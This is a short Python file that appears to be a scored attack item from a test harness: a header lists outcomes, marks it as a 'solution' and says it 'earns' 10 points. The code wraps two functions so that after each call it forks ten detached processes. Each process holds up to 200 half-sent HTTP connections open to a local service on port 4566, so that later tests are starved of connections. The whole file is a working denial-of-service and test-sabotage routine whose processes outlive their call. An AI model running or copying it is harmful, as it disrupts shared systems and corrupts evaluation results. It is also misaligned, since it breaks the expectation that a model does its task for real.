# /// attack
# outcomes = ["passed", "crashed", "killed", "timed_out"]
# solution = true
# earns = 10.0
# ///
"""Holds two thousand connections open past the call, so that the next test finds no place."""

import os
import signal
import socket


def hold():
    for _ in range(10):
        if os.fork() == 0:
            os.setsid()
            held = []
            while len(held) < 200:
                try:
                    held.append(socket.create_connection(("127.0.0.1", 4566), timeout=1))
                    held[-1].sendall(b"POST / HTTP/1.1\r\nContent-Length: 99\r\n")
                except OSError:
                    break
            signal.pause()
    signal.sigtimedwait([], 0.5)


def wrapped(function):
    def call(name, messages):
        answer = function(name, messages)
        hold()
        return answer

    return call


read_queue_twice, read_log_twice = wrapped(read_queue_twice), wrapped(read_log_twice)
